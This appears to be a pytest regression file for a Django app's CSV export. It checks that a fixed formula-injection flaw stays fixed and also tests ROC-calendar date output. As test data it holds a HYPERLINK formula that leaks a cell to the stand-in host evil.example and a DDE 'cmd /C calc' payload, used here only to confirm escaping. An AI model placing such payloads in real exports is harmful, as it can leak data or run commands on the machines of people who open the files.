"""Finding (issue 15): CSV formula injection through linked records. The writer escaped only cells that were
already text, so a unit, its parent unit or a traveller (a record whose str() is a name someone typed) went out as
a live formula. One escaping step now applies to every cell at the writer."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from anwei.core.csvstream import rows_as_csv
from anwei.directory.models import Unit

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"點我")'


class Named:
    """A record linked from a row: its str() is what someone typed."""

    def __init__(self, name: str) -> None:
        self.name = name

    def __str__(self) -> str:
        return self.name


def _read(chunks: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks).lstrip("\ufeff"))))


def test_every_cell_is_escaped_whatever_its_source() -> None:
    rows = [[Named(FORMULA), Named("@SUM(1+1)"), "+886-3-822", "-1+2", 42, -3, Decimal("-1.5"), None, "王小明"]]
    (_header, row) = _read(rows_as_csv(["a", "b", "c", "d", "e", "f", "g", "h", "i"], rows))
    assert row == ["'" + FORMULA, "'@SUM(1+1)", "'+886-3-822", "'-1+2", "42", "-3", "-1.5", "", "王小明"]


def test_units_export_escapes_the_parent_unit(world: Any, client_for: Any) -> None:
    parent = world.units["a"]
    Unit.objects.filter(pk=parent.pk).update(name="=1+cmd|' /C calc'!A0")
    response = client_for("admin").get("/directory/units.csv")
    assert response.status_code == 200
    rows = _read(chunk.decode() for chunk in response.streaming_content)
    a1 = next(r for r in rows if r[0] == world.units["a1"].name)
    assert "'=1+cmd|' /C calc'!A0" in a1
    assert "=1+cmd|' /C calc'!A0" not in a1


def test_dates_and_times_are_written_as_roc_dates_in_the_language_of_the_download() -> None:
    from datetime import UTC, date, datetime

    from django.utils import translation

    rows = [[date(2026, 12, 6), datetime(2026, 12, 6, 4, 30, tzinfo=UTC), {"狀態": "結案"}]]
    with translation.override("zh-hant"):
        (_header, row) = _read(rows_as_csv(["a", "b", "c"], rows))
    assert row == ["115年12月6日", "115年12月6日12時30分", '{"狀態": "結案"}']
    with translation.override("en"):
        (_header, row) = _read(rows_as_csv(["a", "b", "c"], rows))
    assert row[:2] == ["2026-12-06", "2026-12-06 12:30"]


def test_a_list_read_as_values_says_what_the_records_say(world: Any) -> None:
    """The fast path (values_list) and the record path give the same cells: choice labels translated, a field
    through a foreign key, a date as a 民國 date."""
    from django.utils import translation

    from anwei.audit import services as audit
    from anwei.audit.models import AuditEntry
    from anwei.core.csvstream import queryset_csv

    audit.record(actor=world.users["ethics"], action="export", object_type="audit.auditentry", changes={"csv": True})
    queryset = AuditEntry.objects.order_by("seq")
    fast = [("n", "seq"), ("t", "at"), ("a", "get_action_display"), ("who", "actor.username")]
    slow = [*fast, ("x", lambda e: "")]
    with translation.override("zh-hant"):
        one = _read(c.decode() for c in queryset_csv("a.csv", queryset, fast).streaming_content)
        two = _read(c.decode() for c in queryset_csv("a.csv", queryset, slow).streaming_content)
    assert len(one) > 1 and one == [r[:-1] for r in two]
    entry = queryset.exclude(actor=None).first()
    assert entry is not None
    row = next(r for r in one if r[0] == str(entry.seq))
    assert row[2] == str(entry.get_action_display()) and row[3] == entry.actor.username and "年" in row[1]
